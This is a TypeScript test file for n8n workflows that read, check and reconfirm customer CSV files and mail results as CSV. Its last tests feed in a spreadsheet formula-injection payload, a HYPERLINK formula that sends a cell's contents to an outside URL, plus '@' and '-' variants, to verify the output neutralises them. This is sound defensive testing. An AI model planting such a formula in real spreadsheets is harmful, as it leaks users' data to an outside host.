/**
 * Files of customers through the spreadsheet's workflow, with n8n's own nodes at work: what
 * `npm start -- --input` reads, the workflow reads, and what that refuses, stops this before it writes.
 * What the workflows mail as CSV runs no formula.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import type { IDataObject, INodeExecutionData } from 'n8n-workflow';

import { decodeText } from '../../dev/demo/readCsv';
import { parseRecords } from '../../dev/demo/records';
import {
	parseWorkflow,
	runWorkflow,
	withCredential,
	type RunResult,
	type WorkflowFile,
} from '../../dev/engine/runWorkflow';
import { customerFiles } from '../support/fixtures/customerFiles';
import { n8nNodes } from './n8nNodes';
import { open, place } from './place';
import {
	CREDENTIAL_TYPE,
	customer,
	customerId,
	engine,
	json,
	loadCredentialType,
	loadNode,
	writes,
} from './workplace';

jest.setTimeout(60_000);

const FORM = 'reconfirm-campaign.json';

/** The workflow as a person imports it, with nothing pinned. */
function workflowIn(file: string): WorkflowFile {
	const text = readFileSync(path.join(__dirname, '../../workflows', file), 'utf8');
	const workflow = { ...parseWorkflow(text), pinData: {} };
	return withCredential(workflow, [loadNode()], {
		type: CREDENTIAL_TYPE,
		id: '1',
		name: 'Partner Center',
	});
}

/** All of n8n's nodes do their work, but nothing is mailed. */
const withoutMail = {
	get: (type: string, version?: number) =>
		type === 'n8n-nodes-base.emailSend' ? undefined : n8nNodes.get(type, version),
};

async function run(workflow: WorkflowFile, input: INodeExecutionData[]): Promise<RunResult> {
	return await runWorkflow({
		workflow,
		nodeTypes: [loadNode()],
		n8nNodes: withoutMail,
		credentialTypes: [loadCredentialType()],
		credentials: place.credentials,
		timeZone: 'Europe/Amsterdam',
		input,
	});
}

/** What the form emits when the file is uploaded. */
const upload = (bytes: Buffer, whatToDo = 'Confirm'): INodeExecutionData[] => [
	{
		json: { 'What to do': whatToDo },
		binary: {
			Customers: {
				data: bytes.toString('base64'),
				mimeType: 'text/csv',
				fileName: 'customers.csv',
			},
		},
	},
];

/** The rows of the file that Convert to File made. */
function rowsMade(result: RunResult): Array<Record<string, string>> {
	const [file] = result.outputs('Convert to CSV').flat();
	const text = Buffer.from(file?.binary?.data?.data ?? '', 'base64').toString();
	return parse(text, { bom: true, columns: true });
}

const saying = ({ error }: RunResult) =>
	[error?.message, error?.description].filter((one) => !!one).join(' ');

describe(`A file of customers (${engine})`, () => {
	const readable = customerFiles.filter(({ records }) => records !== undefined);
	const refused = customerFiles.filter(({ refusal }) => refusal !== undefined);

	it.each(readable)('is read by both readers alike: $what', async ({ bytes, records, lines }) => {
		await open();
		const result = await run(workflowIn(FORM), upload(bytes, 'Only check'));
		const rows = json(result.outputs('Read the Rows').flat());
		const read = rows.map((row) => {
			const record = { ...row };
			delete record.line;
			delete record.alsoOnLines;
			return record;
		});

		expect(saying(result)).toBe('');
		expect(read).toEqual(records);
		expect(read).toEqual(parseRecords(decodeText(bytes), 'csv').records);
		expect(rows.map(({ line }) => line)).toEqual(lines ?? read.map((_, index) => index + 2));
		expect(rowsMade(result)).toHaveLength(read.length);
	});

	it.each(refused)('is refused by both readers alike: $what', async ({ bytes, refusal }) => {
		const { emulator } = await open();
		const result = await run(workflowIn(FORM), upload(bytes));

		expect(result.status).toBe('error');
		expect(saying(result)).toMatch(refusal ?? /^$/);
		expect(saying(result)).toContain('nothing was checked or confirmed');
		expect(emulator.requests).toEqual([]);
		expect(() => parseRecords(decodeText(bytes), 'csv')).toThrow(refusal);
	});

	it('has a customer on two lines: each is told of the other', async () => {
		await open();
		const two = customerFiles.find(({ what }) => what === 'one customer on two lines');
		const result = await run(workflowIn(FORM), upload(two?.bytes ?? Buffer.from(''), 'Only check'));
		expect(rowsMade(result).map(({ line, alsoOnLines }) => [line, alsoOnLines])).toEqual([
			['2', '4'],
			['3', ''],
			['4', '2'],
		]);
	});
});

describe(`The results of a file (${engine})`, () => {
	const file = (...names: string[]) =>
		Buffer.from(
			[
				'companyName;customerId;firstName;lastName;email;phoneNumber;dateAgreed',
				...names.map(
					(name, index) =>
						`"${name.replace(/"/g, '""')}";${customerId(index + 1)};Tania;Carr;t${index}@contoso.example;+31 30 555 0171;2024-06-14`,
				),
			].join('\r\n'),
		);
	const names = ['Contoso', 'Fabrikam', 'Litware'];

	it('are in the order of the file, a row for each line', async () => {
		const { emulator } = await open({
			state: {
				customers: [customer(1), customer(2, { relationshipToPartner: 'none' }), customer(3)],
			},
		});
		const result = await run(workflowIn(FORM), upload(file(...names)));
		expect(saying(result)).toBe('');
		expect(rowsMade(result)).toMatchObject([
			{ line: '2', companyName: 'Contoso', outcome: 'confirmed' },
			{ line: '3', companyName: 'Fabrikam', outcome: 'failed' },
			{ line: '4', companyName: 'Litware', outcome: 'confirmed' },
		]);
		expect(writes(emulator)).toHaveLength(3);
	});

	it('name a line that has none, and once they are mailed, the run ends with an error', async () => {
		await open({ state: { customers: [customer(1), customer(3)] } });
		const workflow = workflowIn(FORM);
		// As when somebody takes a connection away.
		workflow.connections['Error Rows'] = { main: [[]] };
		const result = await run(workflow, upload(file(...names)));
		expect(rowsMade(result).map(({ line, outcome }) => [line, outcome])).toEqual([
			['2', 'confirmed'],
			['3', 'no result'],
			['4', 'confirmed'],
		]);
		expect(result.runData['Mail the Results']).toHaveLength(1);
		expect(result.status).toBe('error');
		expect(saying(result)).toContain('do not have one result each: 3');
	});

	it('run no formula, and keep numbers and texts', async () => {
		await open({ state: { customers: [customer(1), customer(2), customer(3)] } });
		const formula = '=HYPERLINK("http://example.com/?d="&A2,"Contoso")';
		const result = await run(workflowIn(FORM), upload(file(formula, '＠SUM(1)', 'A;=1+1')));
		expect(rowsMade(result)).toMatchObject([
			{ line: '2', companyName: `'${formula}`, outcome: 'confirmed' },
			{ line: '3', companyName: "'＠SUM(1)" },
			{ line: '4', companyName: "A;'=1+1" },
		]);
	});
});

it(`The coverage report runs no formula (${engine})`, async () => {
	const companyName = '=HYPERLINK("http://example.com/?d="&A2,"Contoso")';
	const primaryContact = { firstName: '@Tania', lastName: '-Carr', email: 'tania@contoso.example' };
	await open({
		state: {
			customers: [
				customer(1, {
					companyName,
					agreements: [{ primaryContact, dateAgreed: '2021-05-01T00:00:00Z' }],
				}),
			],
		},
	});
	const result = await run(workflowIn('coverage-report.json'), [{ json: {} }]);
	const [row] = rowsMade(result);
	expect(saying(result)).toBe('');
	expect(row).toMatchObject({
		companyName: `'${companyName}`,
		'latest.firstName': "'@Tania",
		'latest.lastName': "'-Carr",
	});
	const cells: IDataObject = row ?? {};
	for (const cell of Object.values(cells)) expect(cell).toMatch(/^(?:[^=+\-@\t\r]|$)/);
});
